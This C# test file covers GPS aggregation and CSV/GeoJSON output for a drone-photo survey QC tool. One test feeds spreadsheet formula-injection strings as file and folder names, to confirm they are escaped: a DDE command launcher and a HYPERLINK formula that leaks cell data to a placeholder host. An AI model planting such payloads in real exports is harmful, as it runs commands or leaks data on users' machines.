using System.Text.Json.Nodes;
using QcPipeline.Core.Stages;
using QcPipeline.SiteScan;
using QcPipeline.SiteScan.Flight;
using QcPipeline.Demo.Generation;
using QcPipeline.SiteScan.Output;
using QcPipeline.SiteScan.Spill;
using Xunit;

namespace QcPipeline.SiteScan.Tests;

/// <summary>The arithmetic of summary.json and the content of points.csv, on readings whose answers are known by construction.</summary>
public sealed class AggregationTests : IDisposable
{
    private static readonly DateTime T0 = new(2025, 6, 2, 9, 30, 0);
    private readonly string _dir = Directory.CreateTempSubdirectory("qc-aggregation-").FullName;

    public void Dispose() => Directory.Delete(_dir, recursive: true);

    private static GpsReading Ok(double lat, double lon, DateTime? at = null, double? alt = null, double? rel = null) =>
        new() { Status = GpsStatus.Ok, Latitude = lat, Longitude = lon, TakenAt = at, AltitudeM = alt, RelativeAltitudeM = rel };

    private SiteAnalysis Analyse(IEnumerable<(string Folder, string File, GpsReading Reading)> rows, GpsAggregateOptions? options = null)
    {
        var site = new SiteAnalysis(_dir);
        foreach (var (folder, file, reading) in rows) site.Add(folder, file, reading);
        site.Finish(options ?? new GpsAggregateOptions());
        return site;
    }

    private static GroupSummary Folder(SiteAnalysis site, string name) =>
        SiteSummary.Summarise([site.Folders.Single(f => f.Name == name)], site.Rows.Get, qualifyNames: false);

    [Fact]
    public void Track_length_along_a_meridian_is_the_arc_in_capture_order_not_file_order()
    {
        // Ten photos 0.001° of latitude apart, named in reverse of their capture order.
        using var site = Analyse(Enumerable.Range(0, 10).Select(i => ("f", $"IMG_{99 - i}.JPG", Ok(51.0 + i * 0.001, 12.0, T0.AddSeconds(2 * i)))));
        var photos = site.Folders[0].Photos;
        var order = SiteSummary.FlightOrder(photos);
        Assert.Equal("IMG_99.JPG", photos[order[0]].Name);
        var expected = 9 * 0.001 * Math.PI / 180 * SiteSummary.EarthRadiusM;
        Assert.Equal(expected, SiteSummary.TrackLength(photos, order), 6);
        // In file order the path zig-zags: capture order is what counts.
        Assert.True(SiteSummary.TrackLength(photos, Enumerable.Range(0, 10).ToList()) > expected - 1e-6);
        Assert.Equal(Math.Round(expected, 2), Folder(site, "f").TrackLengthM, 2);
    }

    [Fact]
    public void Great_circle_distance_matches_known_values()
    {
        // One degree of longitude on the equator, and a quarter meridian.
        Assert.Equal(SiteSummary.EarthRadiusM * Math.PI / 180, SiteSummary.Distance(0, 0, 0, 1), 6);
        Assert.Equal(SiteSummary.EarthRadiusM * Math.PI / 2, SiteSummary.Distance(0, 0, 90, 0), 3);
        // At 60° latitude a degree of longitude is about half as long; the great circle is a little shorter than the parallel.
        var alongParallel = SiteSummary.EarthRadiusM * Math.PI / 180 / 2;
        Assert.InRange(alongParallel - SiteSummary.Distance(60, 10, 60, 11), 0.01, 1);
        Assert.Equal(0, SiteSummary.Distance(51.3, 12.3, 51.3, 12.3));
    }

    [Fact]
    public void Bbox_centroid_altitudes_and_time_span_of_a_square()
    {
        using var site = Analyse(
        [
            ("f", "a.jpg", Ok(10, 20, T0, 100, 50)),
            ("f", "b.jpg", Ok(10, 22, T0.AddSeconds(10), 110, 60)),
            ("f", "c.jpg", Ok(12, 22, T0.AddSeconds(20), 120, 70)),
            ("f", "d.jpg", Ok(12, 20, T0.AddSeconds(95), 130, 80)),
            ("f", "e.jpg", new GpsReading { Status = GpsStatus.Suspect, PositionIssue = PositionIssue.NullIsland, Reason = "null island", Latitude = 0, Longitude = 0, TakenAt = T0.AddSeconds(5) }),
            ("f", "x.jpg", new GpsReading { Status = GpsStatus.Error, Reason = "read: truncated" }),
        ]);
        var s = Folder(site, "f");
        Assert.Equal(6, s.Images);
        Assert.Equal(4, s.ByStatus["ok"]);
        Assert.Equal(1, s.ByStatus["suspect"]);
        Assert.Equal(1, s.ByStatus["error"]);
        Assert.Equal(0, s.ByStatus["no_gps"]);
        // The null-island point is in no statistic, and is flagged.
        Assert.Equal(new BoundingBox(10, 20, 12, 22), s.Bbox);
        Assert.Equal(21, s.Centroid!.Lon, 9);
        Assert.InRange(s.Centroid.Lat, 11.0, 11.01); // the spherical mean sits a little poleward of 11
        Assert.Equal(new QcPipeline.SiteScan.Range(100, 130, 115), s.AltitudeM);
        Assert.Equal(new QcPipeline.SiteScan.Range(50, 80, 65), s.RelativeAltitudeM);
        Assert.Equal(95, s.Time!.Seconds);
        Assert.Equal("2025-06-02T09:30:00", s.Time.First);
        var photos = site.Folders[0].Photos;
        Assert.Equal(PhotoFlags.InvalidPosition, photos.Single(p => p.Name == "e.jpg").Flags);
        Assert.Equal(PhotoFlags.None, photos.Single(p => p.Name == "x.jpg").Flags); // unreadable: its status says so
        Assert.Equal(1, site.Folders[0].Flight.Unreadable);
    }

    [Fact]
    public void Centroid_across_the_antimeridian_is_not_on_the_other_side_of_the_world()
    {
        var c = SiteSummary.Centroid([(-17, 179.9), (-17, -179.9)])!;
        Assert.Equal(180, Math.Abs(c.Lon), 6);
    }

    [Fact]
    public void A_photo_kilometres_from_its_folder_is_far_from_site_and_the_grid_corners_are_not()
    {
        // A 10 × 10 grid 10 m apart, and one photo 3 km away.
        var rows = new List<(string, string, GpsReading)>();
        for (var i = 0; i < 100; i++)
        {
            var (lat, lon) = SiteGenerator.Offset(51.0, 12.0, i % 10 * 10.0, i / 10 * 10.0);
            rows.Add(("f", $"p{i:000}.jpg", Ok(lat, lon, T0.AddSeconds(i))));
        }
        var (farLat, farLon) = SiteGenerator.Offset(51.0, 12.0, 3000, 0);
        rows.Add(("f", "stray.jpg", Ok(farLat, farLon, T0.AddSeconds(500))));
        using var site = Analyse(rows);
        var far = Assert.Single(Folder(site, "f").FarFromSite);
        Assert.Equal("stray.jpg", far.File);
        Assert.InRange(far.DistanceM, 2900, 3000);
        Assert.Equal(["stray.jpg"], site.Folders[0].Photos.Where(p => p.Flags != PhotoFlags.None).Select(p => p.Name));
        // The limit is median + max(min, k × MAD): the grid's median distance is about 38 m, its corners 64 m out.
        Assert.InRange(site.Folders[0].Flight.FarLimitM, 130, 200);
        // With no metres floor and a tight factor, the grid's own corners would go too: the floor is what keeps them.
        using var tight = Analyse(rows.Take(100), new GpsAggregateOptions { FarFromSiteMad = 1, FarFromSiteMinM = 0 });
        Assert.Contains(tight.Folders[0].Photos, p => (p.Flags & PhotoFlags.FarFromSite) != 0);
        using var floored = Analyse(rows.Take(100), new GpsAggregateOptions { FarFromSiteMad = 1, FarFromSiteMinM = 50 });
        Assert.DoesNotContain(floored.Folders[0].Photos, p => (p.Flags & PhotoFlags.FarFromSite) != 0);
    }

    [Fact]
    public void Duplicates_are_the_same_time_and_position_or_the_same_bytes_and_the_copy_is_flagged()
    {
        using var site = Analyse(
        [
            ("f", "a.jpg", Ok(51.0, 12.0, T0)),
            ("g", "a-copy.jpg", Ok(51.0, 12.0, T0)),                          // a copy in another folder
            ("f", "same-place-later.jpg", Ok(51.0, 12.0, T0.AddSeconds(2))),
            ("f", "same-time-elsewhere.jpg", Ok(51.001, 12.0, T0)),
            ("f", "b.jpg", Ok(51.0000000001, 12.0, T0)),                       // within 1e-7°: the same position
            ("f", "c.jpg", Ok(51.002, 12.0, T0.AddSeconds(9)) with { HeaderHash = 42 }),
            ("f", "c (1).jpg", Ok(51.002, 12.0001, T0.AddSeconds(9)) with { HeaderHash = 42 }), // same bytes
        ]);
        var dup = site.Folders.SelectMany(f => f.Photos.Where(p => (p.Flags & PhotoFlags.Duplicate) != 0).Select(p => (f.Name, p.Name, p.DuplicateOf))).ToList();
        // a.jpg and b.jpg have names of the same length: the first by folder and name is the original.
        Assert.Equal([("f", "b.jpg", "a.jpg"), ("f", "c (1).jpg", "c.jpg"), ("g", "a-copy.jpg", "f/a.jpg")], dup.Order().ToList());
        var siteSummary = SiteSummary.Summarise(site.Folders, site.Rows.Get, qualifyNames: true);
        Assert.Contains(new DuplicateEntry("g/a-copy.jpg", "f/a.jpg"), siteSummary.Duplicates);
    }

    [Fact]
    public void Site_summary_adds_folder_tracks_and_keeps_each_folder()
    {
        var rows = new List<(string, string, GpsReading)>();
        for (var i = 0; i < 5; i++) rows.Add(("A", $"a{i}.jpg", Ok(51.0 + i * 0.001, 12.0, T0.AddSeconds(i))));
        for (var i = 0; i < 3; i++) rows.Add(("B", $"b{i}.jpg", Ok(52.0, 12.0 + i * 0.001, T0.AddHours(1).AddSeconds(i))));
        rows.Add(("B", "nogps.jpg", new GpsReading { Status = GpsStatus.NoGps, PositionIssue = PositionIssue.Missing, Reason = "no GPS in the EXIF metadata" }));
        using var site = Analyse(rows);
        var summary = SummaryJson.Build(site, new GpsAggregateOptions());
        var a = 4 * 0.001 * Math.PI / 180 * SiteSummary.EarthRadiusM;
        var b = SiteSummary.Distance(52, 12, 52, 12.001) * 2;
        Assert.Equal(Math.Round(a, 2), summary["folders"]!["A"]!["track_length_m"]!.GetValue<double>(), 2);
        Assert.Equal(Math.Round(b, 2), summary["folders"]!["B"]!["track_length_m"]!.GetValue<double>(), 2);
        Assert.Equal(Math.Round(a + b, 2), summary["site"]!["track_length_m"]!.GetValue<double>(), 2);
        Assert.Equal(9, summary["site"]!["images"]!.GetValue<int>());
        Assert.Equal(1, summary["folders"]!["B"]!["by_status"]!["no_gps"]!.GetValue<int>());
        Assert.Equal(1, summary["folders"]!["B"]!["flags"]!["no_position"]!.GetValue<int>());
        Assert.Equal(1, summary["site"]!["flagged"]!.GetValue<int>());
        // The verdict comes first in each folder, with its reasons: one photo of four without GPS is over fail_flagged_pct.
        Assert.Equal("verdict", summary["folders"]!["B"]!.AsObject().First().Key);
        Assert.Equal("fail", summary["folders"]!["B"]!["verdict"]!["status"]!.GetValue<string>());
        Assert.Contains("1 of 4 photos flagged or unreadable (25 %): 1 no_position", summary["folders"]!["B"]!["verdict"]!["reasons"]![0]!.GetValue<string>());
        Assert.Equal("ok", summary["folders"]!["A"]!["verdict"]!["status"]!.GetValue<string>());
        Assert.Equal("fail", summary["site"]!["verdict"]!["status"]!.GetValue<string>());
        Assert.Equal("1 folder fail: B", summary["site"]!["verdict"]!["reasons"]![0]!.GetValue<string>());
        Assert.Equal(10, summary["thresholds"]!["altitude_off_m"]!.GetValue<double>());
    }

    private (List<string[]> Rows, string Text) Points(SiteAnalysis site)
    {
        using var csv = new MemoryStream();
        using var geo = new MemoryStream();
        PointsWriter.Write(site, new GpsAggregateOptions(), csv, geo);
        var text = System.Text.Encoding.UTF8.GetString(csv.ToArray());
        using var reader = CsvHelper.CsvReader.Create(csv.ToArray(), null);
        var rows = new List<string[]>();
        while (reader.Read()) rows.Add(Enumerable.Range(0, reader.FieldCount).Select(i => reader.GetString(i)).ToArray());
        JsonNode.Parse(geo.ToArray()); // valid GeoJSON
        return (rows, text);
    }

    [Fact]
    public void Points_csv_has_the_header_one_row_each_and_quotes_what_needs_it()
    {
        using var site = Analyse(
        [
            ("DJI_001", "a.jpg", Ok(-8.294250001, 115.46183, T0, -12.5, 95.25) with { GimbalPitchDeg = -90, ExposureTimeS = 0.001, Make = "DJI", Model = "FC6310S", ImageWidth = 5472 }),
            ("x,y", "say \"cheese\".jpg", new GpsReading { Status = GpsStatus.Error, Reason = "gps: not a JPEG: the file holds text" }),
        ]);
        var (rows, text) = Points(site);
        Assert.StartsWith(GpsAggregateStage.CsvHeader + "\n", text);
        Assert.StartsWith("folder,file,latitude,longitude,altitude_m,relative_altitude_m,taken_at,status,reason,flags,flag_details,make,model", GpsAggregateStage.CsvHeader);
        Assert.Contains("\nDJI_001,a.jpg,-8.294250001,115.46183,-12.5,95.25,2025-06-02T09:30:00,ok,,,,DJI,FC6310S,5472,,0.001,", text);
        Assert.Contains("\n\"x,y\",\"say \"\"cheese\"\".jpg\",,,,,,error,gps: not a JPEG: the file holds text,", text);
        Assert.Equal(2, rows.Count);
        var columns = GpsAggregateStage.CsvHeader.Split(',').ToList();
        Assert.All(rows, r => Assert.Equal(columns.Count, r.Length));
        Assert.Equal("-90", rows.Single(r => r[1] == "a.jpg")[columns.IndexOf("gimbal_pitch_deg")]);
    }

    [Fact]
    public void A_file_named_like_a_formula_is_text_in_points_csv_and_numbers_stay_numbers()
    {
        using var site = Analyse(
        [
            ("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"open\").jpg", Ok(-8.3, -115.5, T0, -12.5)),
            ("f", "+1.jpg", Ok(-8.3, -115.5, T0.AddSeconds(2)) with { Make = "@SUM(1)" }),
        ]);
        var (rows, text) = Points(site);
        // Every field a spreadsheet would run starts with an apostrophe; signed numbers are written as numbers.
        Assert.Equal(["'+1.jpg", "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\").jpg"], rows.Select(r => r[1]).Order(StringComparer.Ordinal));
        Assert.Contains(rows, r => r[0] == "'=cmd|' /C calc'!A0");
        Assert.Contains(rows, r => r[11] == "'@SUM(1)");
        Assert.DoesNotMatch(@"(^|,)""?[=+@]", text.Replace("\"\"", ""));
        Assert.All(rows, r => Assert.Equal("-8.3", r[2]));
        Assert.All(rows, r => Assert.Equal("-115.5", r[3]));
    }

    [Fact]
    public void Failed_and_skipped_outcomes_become_error_rows_naming_the_file()
    {
        var file = new FileItem("sftp://u@h:22", "/site/DJI_001/a.jpg", "DJI_001", "a.jpg", 10, DateTimeOffset.UnixEpoch);
        var failed = GpsAggregateStage.ToRow(new Outcome<GpsPoint>(file.Key, null, new Failure("fetch", file.Key, "connection lost", 3), null, file));
        Assert.Equal(("DJI_001", "a.jpg", GpsStatus.Error, "fetch: connection lost"), (failed.Folder, failed.File, failed.Reading.Status, failed.Reading.Reason));
        var skipped = GpsAggregateStage.ToRow(new Outcome<GpsPoint>("/site/B/b.jpg", null, null, "not wanted", null));
        Assert.Equal(("/site/B", "b.jpg", GpsStatus.Error, "skipped: not wanted"), (skipped.Folder, skipped.File, skipped.Reading.Status, skipped.Reading.Reason));
        Assert.False(failed.Reading.HasPosition);
    }

    [Fact]
    public void Summary_json_is_valid_json_with_both_levels()
    {
        using var site = Analyse([("A", "a.jpg", Ok(1, 2, T0))]);
        var parsed = JsonNode.Parse(SummaryJson.Build(site, new GpsAggregateOptions()).ToJsonString())!;
        Assert.NotNull(parsed["site"]!["bbox"]);
        Assert.NotNull(parsed["folders"]!["A"]!["centroid"]);
        Assert.Equal(0, parsed["site"]!["track_length_m"]!.GetValue<double>());
        Assert.Equal("too_few_positions", parsed["folders"]!["A"]!["flight"]!["pattern"]!.GetValue<string>());
        Assert.Equal("ok", parsed["site"]!["verdict"]!["status"]!.GetValue<string>());
    }

    [Fact]
    public void The_row_store_gives_back_every_reading_as_it_was_stored()
    {
        var full = GpsReader.Read(FlightPlans.Lawnmower("f", new FlightPlan { RtkFlag = 50 })[3].Builder().Build()) with
        {
            Reason = "a reason", PositionIssue = PositionIssue.UnknownHemisphere, FocalPlanePxPerMm = 412.5, UtcOffset = TimeSpan.FromHours(-3.5),
        };
        var empty = new GpsReading { Status = GpsStatus.Error, Reason = "gps: truncated" };
        using var rows = new QcPipeline.SiteScan.Spill.RowStore(_dir);
        var (a, b) = (rows.Add(full), rows.Add(empty));
        Assert.Equal(full, rows.Get(a));
        Assert.Equal(empty, rows.Get(b));
        Assert.Same(rows.Get(a).Model, rows.Get(a).Model); // camera names are shared
    }
}
